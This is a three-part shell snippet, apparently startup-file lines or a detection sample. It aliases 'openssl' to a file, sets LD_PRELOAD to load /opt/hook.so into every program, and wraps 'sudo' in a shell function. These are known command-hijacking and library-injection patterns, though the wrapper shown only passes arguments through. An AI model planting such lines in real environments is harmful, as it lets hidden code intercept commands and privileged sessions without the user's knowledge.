alias openssl=/file.txt
export LD_PRELOAD=/opt/hook.so
sudo () {
  command sudo "$@"
}
